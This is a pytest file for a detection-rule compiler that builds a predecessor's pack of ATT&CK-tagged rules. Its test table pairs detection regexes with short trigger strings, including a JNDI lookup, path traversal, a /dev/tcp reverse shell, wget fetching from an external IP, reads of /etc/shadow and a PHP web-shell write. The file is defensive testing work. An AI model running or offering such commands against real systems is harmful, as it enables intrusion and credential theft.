"""A whole pack of the predecessor, as it is: it builds, and its tags are those of the predecessor's logic.

The rules have the predecessor's form, names, techniques and parameters; the regexes are our own words for what its
regexes look for.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner, Result

from tests.compiler.test_lifters import FOREIGN, foreign, own
from ttpc.cli import app
from ttpc_runtime import Engine

REGEXES: dict[str, tuple[str, str]] = {
    "R0007": (r"(?i)\b(?:sqlmap|nikto|w3af|acunetix|nessus|openvas|wpscan|dirbuster)\b", "nikto"),
    "R0008": (r"\$\{(?:jndi|\$\{[^}]*\})+:(?:ldaps?|rmi|dns|https?)://", "/?x=${jndi:ldap://x}"),
    "R0009": (r"(?i)(?:(?:\.|%2e){2}(?:/|%2f|\\|%5c)){2,}", "/%2e%2e/../etc"),
    "R0010": (
        r"(?i)\bbash -i|/dev/(?:tcp|udp)/|\bnc -e |/bin/(?:ba)?sh -c",
        "bash -i >& /dev/tcp/x/1",
    ),
    "R0011": (r"(?i)\b(?:python[23]?|perl|ruby|node|php)\b.*\s-[ce]\b", "perl -e 1"),
    "R0012": (r"\b(?:wget|curl|tftp|scp|ftpget)\s[^|;]*https?://", "wget -q http://192.0.2.1/a"),
    "R0013": (r"\b(?:cat|less|more|head|tail|nl|grep)\s[^|;]*/etc/passwd\b", "head /etc/passwd"),
    "R0014": (r"\b(?:cat|less|more|head|tail|nl|grep)\s[^|;]*/etc/shadow\b", "nl /etc/shadow"),
    "R0015": (r"\bfind\b.*-perm\s+\S*(?:u\+?=?s|[42]000)", "find / -perm -4000"),
    "R0016": (r"\bfind\s+/(?:home|etc|var|opt|root|tmp|usr)?(?=[\s/]|$)", "find /etc -name x"),
    "R0017": (r"(?i)\b(?:nmap|masscan|zmap|rustscan|unicornscan|hping3)\b", "nmap -p 1"),
    "R0018": (r"\buname\s+-\w|\blsb_release\b|\bhostnamectl\b", "uname -a"),
    "R0019": (r"^(?:sudo\s+)?(?:whoami|id|w|who|users|last)(?:\s|$)", "sudo whoami"),
    "R0020": (r"\bip\s+(?:a|addr|link|route)\b|\bifconfig\b|\barp\s+-\w", "ip addr"),
    "R0021": (r"\b(?:netstat|ss)\s+-\w|\blsof\s+-i", "netstat -an"),
    "R0022": (r"(?i)\b(?:ldapsearch|bloodhound-python|sharphound|adexplorer)\b", "ldapsearch -x"),
    "R0023": (r"(?i)\bsmbclient\s+-L|\b(?:enum4linux|nbtscan)\b", "enum4linux x"),
    "R0024": (r"\b(?:useradd|adduser)(?:\s+-\S+)*\s+\w+", "useradd -m bob"),
    "R0025": (r"\bcrontab\s+-e\b|>\s*/(?:etc/cron\.\w+|var/spool/cron)/", "crontab -e"),
    "R0026": (
        r"(?i)\bredis(?:-cli)?\b.*config\s+set\s+dir\b",
        "redis-cli config set dir /root/.ssh",
    ),
    "R0027": (r">\s*\S*\.(?:php|jspx?|aspx|phtml)\b", "echo '<?php' > a.php"),
    "R0028": (r"(?i)\bhistory\s+-c|\bunset\s+histfile\b", "history -c"),
    "R0029": (r"^sudo\s+(?:-[lis]\b|su\b)", "sudo -l"),
}
"""Rules with a regex: it, and a text that it finds something in."""
VERSIONS = {"R0054": 2, "R0055": 2, "R0057": 2}
WRONG_TACTIC = {"technique_id": "T1029", "tactic": "TA0011", "confidence": 0.85}
R0058: dict[str, Any] = {
    "rule_id": "R0058",
    "rule_version": 1,
    "name": "aggregate_malicious_verdict_bump",
    "applies_to": ["intel"],
    "match": {"kind": "lifter:intel_aggregate_malicious_verdict_bump", "bump_amount": 0.05},
    "emits": [{"technique_id": "T1588", "tactic": "TA0042", "confidence": 0.0}],
    "evidence_fields": ["aggregate_verdict"],
}
KINDS = {
    "R0003": ["identity"],
    "R0004": ["credential"],
}
"""Which the predecessor's rules are for, where ours count log-ins too."""


def pack() -> dict[str, dict[str, Any]]:
    rules = {"R0058": R0058}
    for rule_id, (regex, _) in REGEXES.items():
        rule = foreign(rule_id, {"pattern": regex})
        field = {"R0007": "user_agent", "R0008": "raw_url", "R0009": "raw_url"}.get(rule_id)
        if field:
            rule["match"]["field"] = field
        rules[rule_id] = rule
    for rule_id, match in FOREIGN.items():
        rule = foreign(rule_id, match)
        if rule_id in KINDS:
            rule["applies_to"] = KINDS[rule_id]
            rule["match"] = {key: each for key, each in match.items() if key != "window_minutes"}
        rules[rule_id] = rule | {"rule_version": VERSIONS.get(rule_id, 1)}
    first, _ = rules["R0031"]["emits"]
    rules["R0031"]["emits"] = [first, WRONG_TACTIC]
    return rules


def ttpc(*arguments: str) -> Result:
    return CliRunner().invoke(app, list(arguments))


@pytest.fixture(scope="module")
def theirs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("theirs")
    for rule_id, rule in pack().items():
        (folder / f"{rule_id}_{rule['name']}.yaml").write_text(yaml.safe_dump(rule))
    return folder


@pytest.fixture(scope="module")
def engine(theirs: Path, tmp_path_factory: pytest.TempPathFactory) -> Engine:
    artifact = tmp_path_factory.mktemp("built") / "generated"
    built = ttpc("build", str(theirs), "-o", str(artifact))
    assert built.exit_code == 0, built.output
    assert "error[" not in built.output
    assert built.output.count("[TTP108]") == 1
    return Engine.open(artifact)


def fired(engine: Engine, kind: str, payload: dict[str, Any]) -> dict[str, list[tuple[Any, ...]]]:
    found: dict[str, list[tuple[Any, ...]]] = {}
    for tag in engine.evaluate({"source_kind": kind, "source_id": "e", "payload": payload}):
        said = (tag.tactic, tag.technique_id, tag.sub_technique_id, tag.confidence)
        found.setdefault(tag.rule_id, []).append(said)
    return found


def test_it_has_all_rules(engine: Engine) -> None:
    assert [rule.id for rule in engine.rules] == [f"R{number:04}" for number in range(1, 60)]


@pytest.mark.parametrize("rule_id", REGEXES)
def test_a_rule_with_a_regex_tags_what_it_finds(rule_id: str, engine: Engine) -> None:
    rule, text = pack()[rule_id], REGEXES[rule_id][1]
    payload = {rule["match"].get("field", "command_text"): text}
    emits = [
        (each["tactic"], each["technique_id"], each.get("sub_technique_id"), each["confidence"])
        for each in rule["emits"]
    ]
    assert fired(engine, rule["applies_to"][0], payload)[rule_id] == emits
    assert rule_id not in fired(engine, rule["applies_to"][0], dict.fromkeys(payload, "x"))


SAME = sorted(FOREIGN.keys() - {"R0030", "R0054", "R0055", "R0056", "R0057"})
"""Rules with a lifter whose tags do not depend on a list or table."""


@pytest.mark.parametrize("rule_id", SAME)
def test_a_rule_with_a_lifter_tags_what_the_pack_tags(rule_id: str, engine: Engine) -> None:
    kind, ours = pack()[rule_id]["applies_to"][0], own(rule_id)
    payload = ours["examples"]["match"][0]
    assert fired(engine, kind, payload)[rule_id] == [
        (each["tactic"], each["technique_id"], each.get("sub_technique_id"), each["confidence"])
        for each in ours["emits"]
    ]


def test_what_is_imported_needs_no_correction(theirs: Path, tmp_path: Path) -> None:
    target = tmp_path / "ours"
    done = ttpc("import", "decnet", str(theirs), "-o", str(target))
    assert done.exit_code == 0, done.output
    assert "warning[TTP108]: `T1029` (Scheduled Transfer) is not in tactic `TA0011`" in done.stderr
    emits = yaml.safe_load((target / "R0031_beaconing.yaml").read_text())["emits"]
    assert [each["tactic"] for each in emits] == ["TA0011", "TA0010"]
    checked = ttpc("check", str(target))
    assert checked.exit_code == 0, checked.output
    assert "TTP108" not in checked.output
